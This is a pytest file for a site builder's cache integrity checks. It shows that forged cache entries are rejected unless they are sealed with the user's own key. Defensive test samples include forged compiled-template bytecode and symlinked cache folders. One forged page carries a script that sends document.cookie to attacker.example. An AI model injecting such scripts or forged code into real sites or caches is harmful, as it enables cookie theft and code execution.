"""Hostile corpus: the disk cache under the project (``.cache/program-portal/``) as a pull request could fill it.

A pull request can add files anywhere in the repository, ignored folders included (``git add -f``).
Everything the cache keeps is sealed under this user's key, outside the project
(:mod:`program_portal.integrity`): a forged document is not published, a forged privacy result hides
nothing, forged compiled code never runs. Each attack has its positive control: the same forgery
sealed with the real key is believed, so the test shows the seal is what stops it.
"""

from __future__ import annotations

import hashlib
import io
import json
import marshal
import os
import pickle
from pathlib import Path

import pytest
from jinja2.bccache import bc_magic

from conftest import Project
from program_portal import integrity
from program_portal.checks import privacy

EPOCH = "1800000000"


@pytest.fixture
def user_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """This test's user cache folder (where the key lives), outside every project."""
    return tmp_path_factory.mktemp("user-cache")


def build(project: Project, user_cache: Path, *args: str):
    return project.build(*args, SOURCE_DATE_EPOCH=EPOCH, PROGRAM_PORTAL_CACHE_DIR="", XDG_CACHE_HOME=str(user_cache))


def real_key(user_cache: Path) -> bytes:
    key = integrity._read_key(user_cache / "program-portal" / integrity.KEY_NAME)
    assert key is not None, "the first build made this user's key"
    return key


def site_digest(project: Project) -> dict[str, str]:
    site = project.path("site")
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in site.rglob("*") if p.is_file()}


def test_forged_documents_in_the_cache_are_not_published(project: Project, user_cache: Path) -> None:
    assert build(project, user_cache, "--strict").ok
    before = site_digest(project)
    entries = sorted(project.path(".cache/program-portal").glob("??/*"))
    assert entries
    forged = b"%PDF-1.7\n% a pull request's document, with jane.doe@corp.example in it\n"
    for n, entry in enumerate(entries):  # unsealed, and sealed with another key
        entry.write_bytes(forged if n % 2 else integrity.seal(b"k" * 32, entry.name, forged))
    result = build(project, user_cache, "--strict")
    assert result.ok, result
    assert site_digest(project) == before, "every forged entry was made again"
    assert all(forged not in p.read_bytes() for p in project.path("site/downloads").iterdir() if p.is_file())
    key = real_key(user_cache)
    assert all(integrity.unseal(key, p.name, p.read_bytes()) is not None for p in project.path(".cache/program-portal").glob("??/*"))


def _forge_memo(project: Project, key: bytes, seal_with: bytes | None) -> None:
    """The memo the last build left, every finding removed, written unsealed or sealed with ``seal_with``."""
    path = project.path(".cache/program-portal") / privacy.MEMO_FILE
    data = integrity.unseal(key, privacy._memo_context(), path.read_bytes())
    assert data is not None
    rows = json.loads(data)
    assert any(found for _, found, _, _ in rows), "the failed build kept what it found"
    forged = json.dumps([[k, [], raw, decoded] for k, _, raw, decoded in rows]).encode()
    path.write_bytes(forged if seal_with is None else integrity.seal(seal_with, privacy._memo_context(), forged))


def test_a_forged_privacy_memo_hides_no_address(project: Project, user_cache: Path) -> None:
    project.write("content/contact.md", "# Contact\n\nWrite to jane.doe@corp.example about your mentor.\n")
    first = build(project, user_cache)
    assert not first.ok and "PV001" in first.output, first
    key = real_key(user_cache)
    for seal_with in (None, b"attacker-key-of-32-bytes-0000000"):
        _forge_memo(project, key, seal_with)
        again = build(project, user_cache)
        assert not again.ok and "content/contact.md:3:10: error PV001" in again.output, again
    _forge_memo(project, key, key)  # the control: sealed with this user's key, the forgery is believed by the
    control = build(project, user_cache)  # source scan (the built-page backstop, which that build never reached, still finds it)
    assert "content/contact.md:3:10: error PV001" not in control.output and "PV001" in control.output, control


def _forge_code(project: Project, key: bytes, marker: Path, seal_with: bytes | None) -> int:
    """Every compiled template in the cache replaced by code that writes ``marker`` (the checksum of its source kept)."""
    folder = project.path(".cache/program-portal/jinja")
    files = sorted(p for p in folder.rglob("*") if p.is_file())  # placeholders/ and theme/
    payload = marshal.dumps(compile(f"open({str(marker)!r}, 'w').write('ran')", "<forged>", "exec"))
    for path in files:
        context = f"jinja/{path.name}"
        data = integrity.unseal(key, context, path.read_bytes())
        assert data is not None and data.startswith(bc_magic)
        stream = io.BytesIO(data)
        stream.read(len(bc_magic))
        pickle.load(stream)  # the source's checksum: an attacker can compute it from the repository
        forged = data[: stream.tell()] + payload
        path.write_bytes(forged if seal_with is None else integrity.seal(seal_with, context, forged))
    return len(files)


def test_forged_compiled_templates_never_run(project: Project, user_cache: Path, tmp_path: Path) -> None:
    assert build(project, user_cache, "--strict").ok
    before = site_digest(project)
    key = real_key(user_cache)
    marker = tmp_path / "ran"
    for seal_with in (None, b"attacker-key-of-32-bytes-0000000"):
        assert _forge_code(project, key, marker, seal_with) > 20  # the theme's templates and the placeholders
        result = build(project, user_cache, "--strict")
        assert result.ok, result
        assert not marker.exists()
        assert site_digest(project) == before
    _forge_code(project, key, marker, key)  # the control: sealed with this user's key, the code is run
    build(project, user_cache, "--strict")
    assert marker.exists()


def test_no_key_inside_the_project_no_disk_cache_trusted(project: Project) -> None:
    """A project at the home folder: its .cache/program-portal/cache-key could be the pull request's."""
    inside = project.path(".cache")
    project.write(".cache/program-portal/cache-key", "00" * 32 + "\n")
    os.chmod(inside / "program-portal" / "cache-key", 0o600)
    result = project.build("--strict", SOURCE_DATE_EPOCH=EPOCH, PROGRAM_PORTAL_CACHE_DIR="", XDG_CACHE_HOME=str(inside))
    assert result.ok, result
    cache = project.path(".cache/program-portal")
    assert not list(cache.glob("??/*")) and not (cache / privacy.MEMO_FILE).exists() and not (cache / "jinja").exists()


def test_a_key_others_can_read_or_a_link_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user"))
    key_file = integrity.key_file()
    assert key_file == tmp_path / "user" / "program-portal" / integrity.KEY_NAME
    integrity._KEYS.clear()
    made = integrity.cache_key(tmp_path / "project")
    assert made is not None and len(made) == 32 and key_file.stat().st_mode & 0o777 == 0o600
    integrity._KEYS.clear()
    assert integrity.cache_key(tmp_path / "project") == made  # the same key next time
    os.chmod(key_file, 0o644)
    integrity._KEYS.clear()
    assert integrity.cache_key(tmp_path / "project") is None
    key_file.unlink()
    elsewhere = tmp_path / "planted"
    elsewhere.write_text("11" * 32 + "\n")
    os.chmod(elsewhere, 0o600)
    key_file.symlink_to(elsewhere)
    integrity._KEYS.clear()
    assert integrity.cache_key(tmp_path / "project") is None
    integrity._KEYS.clear()


def test_a_seal_names_its_entry(tmp_path: Path) -> None:
    key = b"k" * 32
    sealed = integrity.seal(key, "ab/abcd", b"document")
    assert integrity.unseal(key, "ab/abcd", sealed) == b"document"
    assert integrity.unseal(key, "ab/other", sealed) is None  # copied under another name
    assert integrity.unseal(b"j" * 32, "ab/abcd", sealed) is None
    assert integrity.unseal(key, "ab/abcd", sealed[:-1] + b"x") is None
    assert integrity.unseal(key, "ab/abcd", b"short") is None


@pytest.mark.parametrize("link", [".cache", ".cache/program-portal", ".cache/program-portal/jinja",
                                  ".cache/program-portal/jinja/placeholders", ".cache/program-portal/ab"])
def test_a_linked_cache_folder_writes_and_removes_nothing_outside(project: Project, user_cache: Path, tmp_path: Path, link: str) -> None:
    """A pull request commits .cache (or a folder in it) as a link to elsewhere: a store of 64-hex names, say."""
    assert build(project, user_cache, "--strict").ok
    before = site_digest(project)
    outside = tmp_path / "elsewhere"
    precious = {name: b"precious" for name in ("ab" + "0" * 62, "c" * 64)}
    for folder in (outside, outside / "ab"):
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in precious.items():
            (folder / name).write_bytes(data)
    target = project.path(link)
    if target.exists():
        import shutil

        shutil.rmtree(target)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(outside, target_is_directory=True)
    listing = sorted(p.relative_to(outside).as_posix() for p in outside.rglob("*"))
    result = build(project, user_cache, "--strict")
    assert result.ok, result
    assert site_digest(project) == before
    assert sorted(p.relative_to(outside).as_posix() for p in outside.rglob("*")) == listing, "nothing written or removed"
    assert all((outside / name).read_bytes() == data for name, data in precious.items())


def test_check_keeps_the_compiled_placeholders_bounded(project: Project, user_cache: Path) -> None:
    """The pre-commit hook runs check on every commit: the placeholders an edit replaced are removed."""
    assert build(project, user_cache, "--strict").ok
    folder = project.path(".cache/program-portal/jinja/placeholders")
    counts = []
    for n in range(3):
        project.edit("program.yml", "title: Mentoring agreement" if n == 0 else f"title: Mentoring agreement {n - 1}",
                     f"title: Mentoring agreement {n}")
        assert project.check(SOURCE_DATE_EPOCH=EPOCH, PROGRAM_PORTAL_CACHE_DIR="", XDG_CACHE_HOME=str(user_cache)).ok
        counts.append(len(list(folder.iterdir())))
    assert counts[0] == counts[1] == counts[2], counts


def _forge_cleaned_pages(project: Project, key: bytes, seal_with: bytes | None) -> None:
    """The cleaned pages the last build kept, each given a script, written unsealed or sealed with ``seal_with``."""
    from program_portal.render import sanitize

    path = project.path(".cache/program-portal") / sanitize.KEPT_FILE
    data = integrity.unseal(key, sanitize._kept_context(), path.read_bytes())
    assert data is not None, "the build kept the pages it cleaned"
    rows = json.loads(data)
    assert rows
    forged = json.dumps([[k, cleaned + '<script>fetch("https://attacker.example/?"+document.cookie)</script>'] for k, cleaned in rows]).encode()
    path.write_bytes(forged if seal_with is None else integrity.seal(seal_with, sanitize._kept_context(), forged))


def test_forged_cleaned_pages_are_not_published(project: Project, user_cache: Path) -> None:
    """The sanitiser's results are kept between builds (render/sanitize.py): a file a pull request puts
    there is not believed, so no page gets markup the allow-list did not let through."""
    assert build(project, user_cache, "--strict").ok
    before = site_digest(project)
    key = real_key(user_cache)
    for seal_with in (None, b"attacker-key-of-32-bytes-0000000"):
        _forge_cleaned_pages(project, key, seal_with)
        result = build(project, user_cache, "--strict")
        assert result.ok, result
        assert site_digest(project) == before
    _forge_cleaned_pages(project, key, key)  # the control: sealed with this user's key, the forgery is believed
    control = build(project, user_cache, "--strict")
    assert control.ok and "attacker.example" in "".join(p.read_text(encoding="utf-8") for p in project.path("site").rglob("*.html"))


def test_a_sealed_entry_of_another_shape_is_made_again(project: Project, user_cache: Path) -> None:
    """Generated pages, download sources and rendered texts are kept as JSON (render/kept.py), read back only
    in the shape they were written in: anything else, even sealed with this user's key, is made again."""
    assert build(project, user_cache, "--strict").ok
    before = site_digest(project)
    key = real_key(user_cache)
    shapes = 0
    for entry in sorted(project.path(".cache/program-portal").glob("??/*")):
        data = integrity.unseal(key, entry.name, entry.read_bytes())
        assert data is not None
        try:
            value = json.loads(data)
        except ValueError:
            continue  # a document
        if isinstance(value, (list, dict)) and not (isinstance(value, dict) and all(k.endswith(".ics") for k in value)):
            wrong = {"pages": [["program/index.md", 1]], "nav": {}, "home": None} if isinstance(value, dict) else [[1, 2]]
            entry.write_bytes(integrity.seal(key, entry.name, json.dumps(wrong).encode()))
            shapes += 1
    assert shapes == 4, "the pages, the download sources, the at-a-glance source and the rendered texts are kept"
    result = build(project, user_cache, "--strict")
    assert result.ok, result
    assert site_digest(project) == before


def test_a_build_passes_or_fails_alike_with_the_cache_and_without(project: Project, user_cache: Path) -> None:
    """Every placeholder of a build shares one work budget. A kept result (render/kept.py) is charged the
    work it cost when it was made: otherwise a warm build, whose generated pages cost nothing, passed where
    the cold build (CI) failed with "too much work"."""
    loop = "{% for a in range(300) %}{% for b in range(1000) %}{% endfor %}{% endfor %}"
    project.write("content/templates/agreement.md", project.read("content/templates/agreement.md") + f"\n{loop}\n")
    for i in range(10):
        project.write(f"content/about/w{i}.md", "# W\n\n{% for a in range(940) %}{% for b in range(1000) %}{% endfor %}{% endfor %}\n")
    project.write("content/about/w10.md", "# W\n\n{% for a in range(100) %}{% for b in range(1000) %}{% endfor %}{% endfor %}\n")
    runs = [build(project, user_cache, "--strict") for _ in range(3)]
    assert all(not r.ok and "PF015" in r.output and "do too much work" in r.output for r in runs), [r.output[-600:] for r in runs]
    assert len({tuple(r.diagnostics()) for r in runs}) == 1, "the cold build and the warm ones disagree"
    for i in range(11):
        project.path(f"content/about/w{i}.md").unlink()
    assert build(project, user_cache, "--strict").ok, "within the budget once the pages are gone"


def test_kept_pages_never_hide_an_edit(project: Project, user_cache: Path) -> None:
    """What a build kept (render/kept.py) is keyed by program.yml and every body's text: an address added to a
    body after a warm build is on the next build's page, and refused, in a new process reading the disk cache."""
    assert build(project, user_cache, "--strict").ok
    assert build(project, user_cache, "--strict").ok  # warm: pages, sources and texts from the cache
    body = "content/templates/agreement.md"
    project.write(body, project.read(body) + "\nQuestions: {{ 'jane.doe' ~ '@' ~ 'corp.example' }}\n")
    result = build(project, user_cache, "--strict")
    assert not result.ok and "PV001" in result.output and "jane.doe@corp.example" in result.output, result.output
    assert any(line.startswith(f"{body}:") for line in result.diagnostics() if "PV001" in line), result.diagnostics()
